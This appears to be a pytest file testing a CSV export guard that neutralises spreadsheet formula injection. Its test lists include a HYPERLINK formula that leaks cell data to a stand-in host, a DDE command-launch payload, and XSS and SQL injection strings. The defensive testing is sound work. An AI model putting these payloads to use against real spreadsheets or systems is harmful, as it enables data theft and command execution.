"""The CSV file: any cell comes back as it was written, and none is a formula."""

import csv
import io
import unicodedata

import pytest
from django.utils.translation import override
from hypothesis import given, settings
from hypothesis import strategies as st

from live.formats import spreadsheet
from tests.support.taught import reopened

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3",
    "-2\t",
    " -2",
    "--2",
    "-.5",
    "-1e5",
    "-1E5",
    "-1E+1000",
    "-1E+5+A1",
    "-A1",
    "-1,000,000",
    "-٢",
    "+5",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    " =1+1",
    "   +1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\t=1",
    "\t",
    "\tharmless",
    "\r=1",
    "\n=1",
    "\x00=1",
]
HARMLESS = [
    "",
    "Paris",
    "1,3",
    "-5",
    "-0.5",
    "-3,14",
    "-1.6E-19",
    "-6.022E+23",
    "-0.00333333333333333",
    "a=b",
    "x-ray",
    "mail@example.org",
    'She said "no"',
    "two\nlines",
    "two\r\nlines",
    "semi;colon",
    "'quoted",
    "שלום",
    "مرحبا",
    "👩‍🏫 𝕏",
    "e\u0301",
    "</script><script>alert(1)</script>",
    "{{ room }}",
    "'; DROP TABLE live_room; --",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_could_run_stands_behind_an_apostrophe(cell):
    assert spreadsheet.safe(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", HARMLESS)
def test_any_other_cell_stays_as_it_is(cell):
    assert spreadsheet.safe(cell) == cell


def test_a_file_reopened_has_every_cell_in_its_place():
    rows = [HARMLESS, *([cell, "between", cell] for cell in HARMLESS)]
    assert reopened(spreadsheet.write(rows)) == rows


def test_no_cell_of_a_reopened_file_begins_like_a_formula():
    cells = [cell for row in reopened(spreadsheet.write([FORMULAS, *([cell] for cell in FORMULAS)])) for cell in row]
    first = {unicodedata.normalize("NFKC", cell.strip())[:1] for cell in cells}
    assert (len(cells), first) == (2 * len(FORMULAS), {"'"})


def test_the_file_begins_with_the_mark_of_utf_8_and_ends_its_lines_as_the_standard_says():
    assert spreadsheet.write([["Zoë", "1"], ["𝕏", ""]]) == b"\xef\xbb\xbfZo\xc3\xab,1\r\n\xf0\x9d\x95\x8f,\r\n"


@pytest.mark.parametrize(("language", "sign"), [("en", ","), ("de", ";"), ("fr", ";"), ("es", ";"), ("ar", ";")])
def test_cells_are_parted_as_the_spreadsheets_of_a_language_expect(language, sign):
    rows = [["Zoë; Ana", "-3,14", 'a "b"'], *([cell, "between"] for cell in HARMLESS)]
    with override(language):
        text = spreadsheet.write(rows).decode("utf-8-sig")
    assert (list(csv.reader(io.StringIO(text, newline=""), delimiter=sign)), "sep=" in text) == (rows, False)


@given(st.one_of(st.text(max_size=10), st.lists(st.sampled_from("'=+-@5a \t"), max_size=6).map("".join)))
@settings(max_examples=300)
def test_what_is_guarded_comes_back_and_runs_nothing(cell):
    guarded = spreadsheet.guarded(cell)
    assert (spreadsheet.unguarded(guarded), spreadsheet.safe(guarded)) == (cell, guarded)
